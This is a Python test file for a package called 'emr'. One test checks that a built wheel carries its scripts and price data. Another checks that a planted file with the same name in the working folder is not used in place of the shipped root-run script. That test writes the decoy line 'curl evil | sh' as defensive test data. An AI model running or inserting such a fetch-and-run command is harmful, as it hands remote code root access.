"""What `emr` needs besides its code comes with it, also where it is installed from a wheel."""

import subprocess
import sys
import zipfile
from pathlib import Path

from emr.machines.shipped import shipped
from emr.request.checks import script_file
from emr.request.gpu import SCRIPT

ROOT = Path(__file__).parents[2]

IN_THE_WHEEL = """
import sys
from pathlib import Path
from emr.cost.prices import default_path, snapshot
from emr.request.checks import script_file
from emr.request.gpu import SCRIPT
here = Path(sys.argv[1])
files = [default_path("us-east-1"), script_file(SCRIPT)]
assert all(file.is_file() and here in file.parents for file in files), files
"""


def test_a_wheel_holds_the_scripts_and_the_prices(tmp_path):
    """Installed elsewhere, and run from a folder without `conf/`."""
    build = [sys.executable, "-m", "hatchling", "build", "-t", "wheel", "-d", str(tmp_path)]
    subprocess.run(build, cwd=ROOT, check=True, capture_output=True)
    (wheel,) = tmp_path.glob("*.whl")
    site = tmp_path / "site"
    zipfile.ZipFile(wheel).extractall(site)
    asked = [sys.executable, "-c", IN_THE_WHEEL, str(site)]
    told = subprocess.run(
        asked,
        check=False,
        cwd=tmp_path,
        env={"PYTHONPATH": str(site)},
        capture_output=True,
        text=True,
    )
    assert (0, "") == (told.returncode, told.stderr)


def test_a_file_of_the_same_name_in_the_working_folder_is_not_taken_for_ours(tmp_path, monkeypatch):
    """Every node runs that script as root."""
    theirs = tmp_path / SCRIPT
    theirs.parent.mkdir(parents=True)
    theirs.write_text("curl evil | sh")
    monkeypatch.chdir(tmp_path)
    assert shipped(SCRIPT) == script_file(SCRIPT)
    assert ROOT / SCRIPT == script_file(SCRIPT)
